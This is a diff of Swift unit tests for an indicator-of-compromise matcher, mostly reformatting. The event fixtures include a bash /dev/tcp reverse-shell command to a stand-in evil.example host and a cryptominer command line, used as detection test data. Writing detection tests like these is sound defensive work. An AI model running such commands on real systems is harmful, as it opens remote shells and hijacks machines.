@@ -163,7 +163,12 @@ private func build(_ body: (inout IOCSetBuilder) throws -> Void) rethrows -> IOC
         #expect(set.matchHash("3395856ce81f2b7382dee72602f798b642f14141") == nil)
         #expect(set.matchHash("44d88612") == nil)
         let m = set.match(md5: "44d88612fea8a8f36de82e1278abb02f", sha1: nil, sha256: "00", field: "file.hash")
-        #expect(m == [IOCMatch(type: .hash, indicator: "44d88612fea8a8f36de82e1278abb02f", label: "eicar md5", field: "file.hash", observed: "44d88612fea8a8f36de82e1278abb02f")])
+        #expect(
+            m == [
+                IOCMatch(
+                    type: .hash, indicator: "44d88612fea8a8f36de82e1278abb02f", label: "eicar md5", field: "file.hash",
+                    observed: "44d88612fea8a8f36de82e1278abb02f")
+            ])
         #expect(set.digestKinds == (md5: true, sha1: true, sha256: true))
         #expect(IOCSet().digestKinds == (md5: false, sha1: false, sha256: false))
         var b = IOCSetBuilder()
@@ -220,8 +225,10 @@ private func build(_ body: (inout IOCSetBuilder) throws -> Void) rethrows -> IOC
     }
 
     @Test func indexFindsAllLiterals() {
-        let a = LiteralIndex([(Array("he".utf8), 0), (Array("she".utf8), 1), (Array("his".utf8), 2), (Array("hers".utf8), 3),
-                              (Array("ushers".utf8), 4), (Array("shers".utf8), 5), (Array("rsx".utf8), 6), (Array("ushersx".utf8), 7)])
+        let a = LiteralIndex([
+            (Array("he".utf8), 0), (Array("she".utf8), 1), (Array("his".utf8), 2), (Array("hers".utf8), 3),
+            (Array("ushers".utf8), 4), (Array("shers".utf8), 5), (Array("rsx".utf8), 6), (Array("ushersx".utf8), 7)
+        ])
         var found: [Int] = []
         var s = "USHERS"
         s.withUTF8 { b in a.scan(b) { found.append($0) } }
@@ -254,8 +261,9 @@ private func build(_ body: (inout IOCSetBuilder) throws -> Void) rethrows -> IOC
     @Test func devTcpHostIsFound() throws {
         // /dev/tcp/HOST/PORT: the host is a path component, so it is looked for there too.
         let set = try build { b in try b.addDomain("evil.example") }
-        let ev = Event(logsource: LogSource(product: "linux", category: "process_creation"),
-                       fields: [("CommandLine", "bash -c 'exec 5<>/dev/tcp/x.evil.example/443'")])
+        let ev = Event(
+            logsource: LogSource(product: "linux", category: "process_creation"),
+            fields: [("CommandLine", "bash -c 'exec 5<>/dev/tcp/x.evil.example/443'")])
         #expect(set.match(event: ev).map(\.indicator) == ["evil.example"])
     }
 }
@@ -272,10 +280,12 @@ private func build(_ body: (inout IOCSetBuilder) throws -> Void) rethrows -> IOC
     }()
 
     @Test func networkConnection() {
-        let ev = Event(logsource: LogSource(product: "linux", category: "network_connection"), fields: [
-            ("Image", "/usr/bin/curl"), ("Initiated", true), ("SourceIp", "203.0.113.5"),
-            ("DestinationIp", "203.0.113.77"), ("DestinationHostname", "cdn.evil.example"),
-        ])
+        let ev = Event(
+            logsource: LogSource(product: "linux", category: "network_connection"),
+            fields: [
+                ("Image", "/usr/bin/curl"), ("Initiated", true), ("SourceIp", "203.0.113.5"),
+                ("DestinationIp", "203.0.113.77"), ("DestinationHostname", "cdn.evil.example")
+            ])
         let m = Self.set.match(event: ev)
         #expect(m.count == 2)
         #expect(m.contains(IOCMatch(type: .ip, indicator: "203.0.113.0/24", label: "range", field: "DestinationIp", observed: "203.0.113.77")))
@@ -289,10 +299,12 @@ private func build(_ body: (inout IOCSetBuilder) throws -> Void) rethrows -> IOC
     }
 
     @Test func dnsQuery() {
-        let ev = Event(logsource: LogSource(product: "linux", category: "dns_query"), fields: [
-            ("QueryName", "www.EVIL.example."),
-            ("QueryResults", "type: 5 alias.cdn.example;::ffff:203.0.113.9;2001:db8:dead::1;"),
-        ])
+        let ev = Event(
+            logsource: LogSource(product: "linux", category: "dns_query"),
+            fields: [
+                ("QueryName", "www.EVIL.example."),
+                ("QueryResults", "type: 5 alias.cdn.example;::ffff:203.0.113.9;2001:db8:dead::1;")
+            ])
         let m = Self.set.match(event: ev)
         #expect(m.contains { $0.type == .domain && $0.field == "QueryName" })
         #expect(m.contains { $0.type == .ip && $0.field == "QueryResults" && $0.indicator == "203.0.113.0/24" })
@@ -302,21 +314,25 @@ private func build(_ body: (inout IOCSetBuilder) throws -> Void) rethrows -> IOC
     }
 
     @Test func processAndFileEvents() {
-        let ev = Event(logsource: LogSource(product: "linux", category: "process_creation"), fields: [
-            ("Image", "/dev/shm/kworker"),
-            ("CommandLine", "/dev/shm/kworker -o stratum+tcp://pool.evil.example:3333 --fallback 203.0.113.4"),
-            ("Hashes", "MD5=44D88612FEA8A8F36DE82E1278ABB02F,SHA256=00"),
-        ])
+        let ev = Event(
+            logsource: LogSource(product: "linux", category: "process_creation"),
+            fields: [
+                ("Image", "/dev/shm/kworker"),
+                ("CommandLine", "/dev/shm/kworker -o stratum+tcp://pool.evil.example:3333 --fallback 203.0.113.4"),
+                ("Hashes", "MD5=44D88612FEA8A8F36DE82E1278ABB02F,SHA256=00")
+            ])
         let m = Self.set.match(event: ev)
         #expect(m.contains { $0.type == .path && $0.field == "Image" && $0.label == "shm" })
         #expect(m.contains { $0.type == .domain && $0.field == "CommandLine" && $0.observed == "pool.evil.example" })
         #expect(m.contains { $0.type == .ip && $0.field == "CommandLine" && $0.observed == "203.0.113.4" })
         #expect(m.contains { $0.type == .hash && $0.field == "Hashes" && $0.label == "eicar" })
-        let file = Event(logsource: LogSource(product: "linux", category: "file_event"),
-                         fields: [("TargetFilename", "/dev/shm/.x"), ("Image", "/usr/bin/cp")])
+        let file = Event(
+            logsource: LogSource(product: "linux", category: "file_event"),
+            fields: [("TargetFilename", "/dev/shm/.x"), ("Image", "/usr/bin/cp")])
         #expect(Self.set.match(event: file).map(\.field) == ["TargetFilename"])
-        let clean = Event(logsource: LogSource(product: "linux", category: "process_creation"),
-                          fields: [("Image", "/usr/bin/ls"), ("CommandLine", "ls -la /tmp example.com")])
+        let clean = Event(
+            logsource: LogSource(product: "linux", category: "process_creation"),
+            fields: [("Image", "/usr/bin/ls"), ("CommandLine", "ls -la /tmp example.com")])
         #expect(Self.set.match(event: clean).isEmpty)
     }
 }
@@ -327,7 +343,7 @@ private func build(_ body: (inout IOCSetBuilder) throws -> Void) rethrows -> IOC
             "domains.txt": "# comment\n\nevil.example;label one\nbad!domain.example\nok.example   spaced label\n198.51.100.1 # an IP in the domain list\n",
             "ips.txt": "203.0.113.0/24;range\n10.0.0.0/40\nnot.an.ip\n2001:db8::/32 doc\n",
             "hashes.txt": "44d88612fea8a8f36de82e1278abb02f;eicar\n1234;short\n",
-            "paths_regex.txt": "^/dev/shm/;shm\n([broken;bad\n^/tmp/x[;]y$;class with semicolon;^/tmp/xx\n",
+            "paths_regex.txt": "^/dev/shm/;shm\n([broken;bad\n^/tmp/x[;]y$;class with semicolon;^/tmp/xx\n"
         ])
         defer { try? FileManager.default.removeItem(atPath: dir) }
         let r = IOCSet.load(directory: dir)
@@ -347,7 +363,7 @@ private func build(_ body: (inout IOCSetBuilder) throws -> Void) rethrows -> IOC
             "my-c2-list.txt": "b.example;from c2\nshared.example;second\n192.0.2.9;c2 address\n",
             "ips.txt": "192.0.2.0/24;from ips\n",
             "hashes.txt": "44d88612fea8a8f36de82e1278abb02f;hash label\n",
-            "extra-hashes.txt": "3395856ce81f2b7382dee72602f798b642f14140;other hash label\n",
+            "extra-hashes.txt": "3395856ce81f2b7382dee72602f798b642f14140;other hash label\n"
         ])
         defer { try? FileManager.default.removeItem(atPath: dir) }
         let r = IOCSet.load(directory: dir)
